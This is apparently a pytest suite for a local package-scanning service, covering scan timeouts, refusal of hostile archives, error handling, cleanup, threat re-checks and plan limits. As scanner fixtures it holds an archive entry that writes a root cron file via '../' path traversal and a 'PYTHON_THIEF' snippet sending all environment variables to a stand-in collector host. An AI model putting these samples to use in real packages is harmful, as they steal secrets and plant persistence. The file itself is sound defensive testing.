from __future__ import annotations

import asyncio
import secrets
from collections.abc import Awaitable
from typing import Any

import pytest

from adapters.errors import LimitExceeded, NotAllowed
from adapters.paging import Window
from adapters.principal import Principal
from adapters.sigil.local import admission
from adapters.sigil.local.adapter import LocalSigil
from adapters.sigil.local.threats import ThreatRecords
from adapters.sigil.models import Scan, ScanStatus, Severity, Threat
from adapters.sigil.port import ThreatFilter
from gateway.assembly import Assembly
from tests.package_registry import CLEAN, PackageRegistry
from tests.running import new_principal

SECONDS = 60


@pytest.fixture
def local(assembly: Assembly) -> LocalSigil:
    """The running local adapter."""
    adapter = assembly.services.sigil
    assert isinstance(adapter, LocalSigil)
    return adapter


def new_name() -> str:
    return f"box-{secrets.token_hex(6)}"


async def ended(local: LocalSigil, principal: Principal, scan: Scan) -> Scan:
    async with asyncio.timeout(SECONDS):
        async for change in local.watch(principal, scan_id=scan.id):
            scan = change.state
    return scan


async def test_a_scan_that_takes_too_long_fails(
    local: LocalSigil, principal: Principal, package_registry: PackageRegistry, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After its time it ends as timeout, and nothing of it is left."""
    monkeypatch.setattr(local._work, "_scan_seconds", 0.3)
    name = new_name()
    let_go = asyncio.Event()
    package_registry.publish_held(name, "1.0.0", let_go)
    scan = await ended(local, principal, await local.submit(principal, f"npm:{name}"))
    assert (scan.status, scan.error and scan.error.code) == (ScanStatus.FAILED, "timeout")
    let_go.set()


async def test_a_hostile_archive_fails_the_scan_with_its_reason(
    local: LocalSigil, principal: Principal, package_registry: PackageRegistry
) -> None:
    """What unpacking refuses is told as it is said, and the next scan is none the worse for it."""
    name = new_name()
    package_registry.publish(name, "1.0.0", CLEAN | {"../../../etc/cron.d/box": "* * * * * root true\n"})
    scan = await ended(local, principal, await local.submit(principal, f"npm:{name}"))
    assert scan.status is ScanStatus.FAILED
    assert scan.error is not None
    assert scan.error.code == "archive_path"
    assert "etc/cron.d" in scan.error.message
    after = await ended(local, principal, await local.submit(principal, "npm:clean-box@1.0.0"))
    assert after.status is ScanStatus.COMPLETED


async def test_an_unexpected_failure_tells_nothing_of_the_inside(
    local: LocalSigil, principal: Principal, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A mistake of ours ends the scan as internal_error; the log has the details."""

    async def break_down(*_arguments: Any) -> tuple[str, ...]:
        raise ZeroDivisionError("the secret of the house")

    begun = await local.submit(principal, "npm:clean-box")
    monkeypatch.setattr(local._work, "threats_to", break_down)
    scan = await ended(local, principal, begun)
    assert scan.error is not None
    assert (scan.status, scan.error.code) == (ScanStatus.FAILED, "internal_error")
    assert "secret" not in scan.error.message
    assert "the secret of the house" in caplog.text


async def test_nothing_of_a_package_is_left_behind(local: LocalSigil, principal: Principal) -> None:
    """A scan's folder goes with its end, and at the start those that a crash left."""
    scan = await ended(local, principal, await local.submit(principal, "npm:clean-box@^1", force=True))
    cache = local._scanner.cache
    async with asyncio.timeout(SECONDS):
        while (cache / scan.id).exists():  # noqa: ASYNC110 - cleared after the end is told
            await asyncio.sleep(0.01)
    for name in ("scan_left", "scan_kept"):
        (cache / name).mkdir(parents=True)
    await local._scanner.forget_all_but(["scan_kept"])
    assert not (cache / "scan_left").exists()
    assert (cache / "scan_kept").exists()
    await local._scanner.forget("scan_kept")


async def test_all_archives_of_a_release_are_scanned_and_a_finding_is_told_once(
    local: LocalSigil, principal: Principal, package_registry: PackageRegistry
) -> None:
    """A module that is in the wheel and in the sources of a release counts as one."""
    name = new_name()
    package_registry.publish_python(name, "1.0", PYTHON_THIEF)
    scan = await ended(local, principal, await local.submit(principal, f"pypi:{name}"))
    findings = [finding for phase in scan.phases.values() for finding in phase.findings]
    files = {finding.file for finding in findings}
    assert "setup.py" in files
    thefts = [finding for finding in findings if finding.file.endswith("thief.py")]
    assert thefts
    assert len({(each.rule, each.line) for each in thefts}) == len(thefts)


PYTHON_THIEF = """import os, base64, urllib.request
body = base64.b64encode(str(dict(os.environ)).encode())
urllib.request.urlopen(urllib.request.Request("https://collector.invalid/in", data=body))
"""


async def test_what_was_learned_since_makes_a_new_scan(
    local: LocalSigil, principal: Principal, package_registry: PackageRegistry, assembly: Assembly
) -> None:
    """A result is not reused when a threat to the version was imported after it."""
    name = new_name()
    package_registry.publish(name, "1.0.0")
    first = await ended(local, principal, await local.submit(principal, f"npm:{name}@1.0.0"))
    threat = Threat(
        id=f"MAL-{name}",
        package_name=name,
        ecosystem="npm",
        threat_type="malware",
        severity=Severity.CRITICAL,
        description="Known since a moment ago.",
        source="tests",
    )
    await ThreatRecords(assembly.database).replace({threat.id: [threat]})
    second = await ended(local, principal, await local.submit(principal, f"npm:{name}@1.0.0"))
    assert second.id != first.id
    assert (first.known_threats, second.known_threats) == ((), (threat.id,))
    assert package_registry.downloads(name) == 2


@pytest.mark.parametrize(("tier", "is_team"), [("free", False), ("pro", False), ("team", True), (None, True)])
async def test_plans_open_what_is_documented(local: LocalSigil, tier: str | None, is_team: bool) -> None:
    """Free has no scans and no threats, Pro no team."""
    caller = new_principal(tier)

    async def allows(asked: Awaitable[Any]) -> bool:
        try:
            await asked
        except NotAllowed as error:
            assert error.code == "plan_required"  # noqa: PT017 - the code is the point
            return False
        return True

    assert await allows(local.threats(caller, Window(1), ThreatFilter())) is (tier != "free")
    assert await allows(local.submit(caller, "npm:clean-box@1.0.0")) is (tier != "free")
    assert await allows(local.team_members(caller)) is is_team
    assert await allows(local.evaluate(caller, [], "default")) is is_team


async def test_what_is_there_already_costs_nothing(local: LocalSigil, monkeypatch: pytest.MonkeyPatch) -> None:
    """A month's limit counts scans, not questions for them."""
    monkeypatch.setattr(admission, "SCANS_PER_MONTH", {"pro": 1})
    caller = new_principal("pro")
    scan = await ended(local, caller, await local.submit(caller, "npm:clean-box@1.0.0"))
    assert await local.submit(caller, "npm:clean-box@1.0.0") == scan
    with pytest.raises(LimitExceeded):
        await local.submit(caller, "npm:clean-box@1.1.0")
